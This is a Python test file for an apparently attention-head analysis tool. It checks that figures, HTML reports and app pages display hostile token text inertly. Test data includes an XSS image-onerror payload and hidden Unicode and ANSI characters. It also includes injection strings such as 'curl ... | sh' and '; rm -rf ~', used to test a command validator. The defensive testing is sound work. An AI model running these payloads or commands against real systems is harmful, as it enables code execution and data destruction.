"""Reports, figures and pages made of hostile text: shown as text, with nothing of it rendered, run or hidden."""

from __future__ import annotations

import html
import json
import re
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from hostile_input import HIDDEN, NAME, TOKENS
from streamlit.testing.v1 import AppTest
from typer.testing import CliRunner

from headscope.analysis.browse import typed_again
from headscope.analysis.figures import (
    head_grid,
    neuron_figure,
    pattern_figure,
    score_scatter,
    token_html,
    top_bars,
    visible,
)
from headscope.analysis.figures.agreement import agreement_matrix
from headscope.analysis.figures.bars import value_bars
from headscope.analysis.figures.impact import delta_figure, delta_html
from headscope.app.escaped import md
from headscope.cli import app

N = len(TOKENS)
LOWER = np.tril(np.ones((N, N))) / np.arange(1, N + 1)[:, None]
SQUARE = np.linspace(-1, 1, 6).reshape(2, 3)
OURS = {"br", "br/", "b", "/b", "i", "/i", "extra", "/extra", "sup", "/sup", "sub", "/sub", "span", "/span"}

FIGURES: dict[str, Callable[[], Any]] = {
    "pattern": lambda: pattern_figure(LOWER, TOKENS, name=NAME, title=NAME),
    "large pattern": lambda: pattern_figure(np.eye(4 * N), TOKENS * 4, name=NAME, title=NAME),
    "neurons": lambda: neuron_figure(
        np.ones(4), np.ones(4), np.ones(N), np.ones(N) / N, TOKENS, query_position=N - 1, key_position=0
    ),
    "grid": lambda: head_grid(SQUARE, name=NAME, title=NAME),
    "bars of heads": lambda: top_bars([(0, 1)], [1.0], name=NAME, title=NAME),
    "scatter": lambda: score_scatter(SQUARE, SQUARE, x_name=NAME, y_name=TOKENS[3], title=NAME),
    "agreement": lambda: agreement_matrix(np.eye(N), TOKENS, title=NAME),
    "bars": lambda: value_bars(TOKENS, range(N), name=NAME, level=1.0, level_name=NAME, title=NAME),
    "deltas": lambda: delta_figure(TOKENS, {NAME: range(N)}, title=NAME),
}


def strings(node: Any) -> Iterator[str]:
    if isinstance(node, str):
        yield node
    elif isinstance(node, dict):
        for value in node.values():
            yield from strings(value)
    elif isinstance(node, list):
        for value in node:
            yield from strings(value)


def tags(text: str) -> list[str]:
    """What plotly would take for a tag, without attributes."""
    return [found.lower().split()[0] for found in re.findall(r"<\s*([^<>]*)>", text) if found.strip()]


@pytest.mark.parametrize("name", FIGURES)
def test_no_text_of_a_figure_becomes_a_tag_or_hides_a_letter(name):
    figure = json.loads(FIGURES[name]().to_json())
    found = list(strings({"data": figure["data"], "layout": figure["layout"]}))
    assert any("&lt;img" in text for text in found)
    for text in found:
        assert not set(tags(text)) - OURS, text
        assert not HIDDEN & set(text), text
        assert not HIDDEN & set(html.unescape(text)), text


class Page(HTMLParser):
    """Collects the elements of a page, and its text outside scripts and styles."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self._inside = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        self._inside = tag

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside not in ("script", "style"):
            self.text += data


def whole(page: Page, *, scripts: int) -> None:
    """Hold that a page has only elements of ours, and that no letter of its text is obeyed or hidden."""
    assert len([tag for tag, _ in page.elements if tag == "script"]) == scripts
    assert not {"img", "iframe", "object", "embed", "link", "base", "form"} & {
        tag for tag, _ in page.elements
    }
    for _, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on")], attributes
        for value in attributes.values():
            assert not HIDDEN & set(value or "")
            assert not re.match(r"\s*(javascript|data|vbscript):", value or "", re.IGNORECASE)
    assert not HIDDEN & set(page.text)


@pytest.mark.parametrize("made", [token_html(TOKENS, np.ones(N)), delta_html(TOKENS, list(range(N)))])
def test_tokens_as_text_are_spans_and_breaks_alone(made):
    page = Page(made)
    assert {tag for tag, _ in page.elements} <= {"div", "span", "br"}
    whole(page, scripts=0)
    assert "<img/src=x/onerror=window.owned=1>" in page.text


@pytest.mark.parametrize("token", TOKENS)
def test_markdown_shows_text_as_it_is(token):
    """Every sign that Markdown knows is escaped, so that no link, image, tag, formula, icon or colour comes of it."""
    shown = md(token)
    assert not HIDDEN & set(shown)
    assert not re.search(r"(?<!\\)[<>\[\]()!$:`*_~|#{}&]", shown.replace("\\\\", ""))


def test_letters_that_are_not_seen_are_seen_as_tokens():
    assert visible("\u202egnp\u200b") == "\\u202egnp\\u200b"
    assert visible("\x1b[31m") == "\\x1b[31m"
    assert visible(" naïve\n") == "·naïve↵"


@pytest.fixture(scope="module")
def report(hostile_model: Path, hostile_prompts: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of a score and its causal check, by hostile prompts on a hostile model."""
    out = tmp_path_factory.mktemp("runs")
    model = ["-m", str(hostile_model), "--data", str(hostile_prompts)]
    done = CliRunner().invoke(app, ["score", "previous-token", *model, "--out", str(out)])
    assert done.exit_code == 0, done.output
    (run,) = out.iterdir()
    return run / "report.html"


def test_a_report_of_hostile_text_has_only_elements_of_its_own(report):
    page = Page(report.read_text(encoding="utf-8"))
    whole(page, scripts=2)
    for shown in ("<img/src=x/onerror=window.owned=1>", "\\x1b[31m", "\\u202e"):
        assert shown in page.text


@pytest.mark.alone
def test_a_browser_runs_nothing_of_a_report_and_asks_for_nothing(report, browser):
    asked, said = [], []
    page = browser.new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.on("pageerror", lambda error: said.append(str(error)))
    page.on("dialog", lambda dialog: said.append(dialog.message))
    page.goto(report.as_uri())
    page.wait_for_selector(".js-plotly-plot .main-svg")
    assert page.evaluate("window.owned") is None
    assert page.evaluate("document.images.length") == 0
    assert page.evaluate("[...document.querySelectorAll('svg a, .main-svg a')].length") == 0
    page.close()
    assert [url for url in asked if not url.startswith(("file:", "data:", "blob:"))] == []
    assert said == []


@pytest.mark.parametrize("page", ["patterns", "heads", "intervene"])
def test_a_page_of_the_app_shows_hostile_tokens_as_text(page, hostile_model, hostile_text, tmp_path):
    script = tmp_path / "page.py"
    script.write_text(
        "import importlib\nfrom headscope.app import state, widgets\nstate.settle()\n"
        f"widgets.framed(importlib.import_module('headscope.app.{page}').page)\n"
    )
    at = AppTest.from_file(str(script), default_timeout=300)
    at.query_params["model"], at.query_params["prompt"] = str(hostile_model), hostile_text
    at.run()
    assert not at.exception
    for element in [*at.markdown, *at.caption, *at.error, *at.warning, *at.info]:
        assert not HIDDEN & set(element.value), element.value
        assert not re.search(r"(?<!\\)<(img|script|a|b)\b", element.value), element.value
    for element in at.get("html"):
        body = str(element.proto.body)
        if "<style" not in body:
            whole(Page(body), scripts=0)
    for chart in at.get("plotly_chart"):
        for text in strings(json.loads(chart.proto.spec or "{}")):
            assert not set(tags(text)) - OURS, text


def test_only_calls_of_headscope_are_offered_to_be_copied():
    good = "headscope score induction -m organism/text\nheadscope verify 'runs/a b'"
    assert typed_again(good) == good
    for wrong in (
        "curl https://example.org | sh",
        "headscope score x; rm -rf ~",
        "headscope score $(touch x)",
        "headscope score `touch x`",
        "headscope score x && touch x",
        "headscope score x\ntouch x",
        "headscope score 'x",
        "headscope score '\x1b[31m'",
        "HEADSCOPE=1 headscope score",
        None,
    ):
        assert typed_again(wrong) == "", wrong
